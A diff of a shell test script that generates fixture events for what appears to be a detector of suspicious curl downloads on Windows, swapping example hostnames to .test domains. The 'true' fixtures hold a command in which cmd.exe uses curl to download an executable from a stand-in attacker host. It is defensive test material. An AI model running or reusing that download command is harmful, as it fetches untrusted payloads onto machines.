@@ -47,13 +47,13 @@ event() {
 }
 for i in 1 2 3 4 5 6; do
     event "$i" 'C:\\Program Files\\Backup\\agent.exe' 'NT AUTHORITY\\SYSTEM' \
-        "curl.exe -s http://backup.internal/$i"
+        "curl.exe -s http://backup.test/$i"
     event "$((i + 10))" 'C:\\Windows\\System32\\cmd.exe' 'PC1\\an' \
-        "curl.exe --max-time 5 http://monitor.internal/health"
+        "curl.exe --max-time 5 http://monitor.test/health"
 done >"$here/false.ndjson"
 for i in 1 2 3; do
     event "$((i + 30))" 'C:\\Windows\\System32\\cmd.exe' 'PC1\\an' \
-        "curl.exe -o c:\\\\x\\\\$i.exe http://10.0.0.$i/evil"
+        "curl.exe -o c:\\\\x\\\\$i.exe http://evil.test/$i"
 done >"$here/true.ndjson"
 
 # status COMMAND…: how it ends; what it says is in out and err.
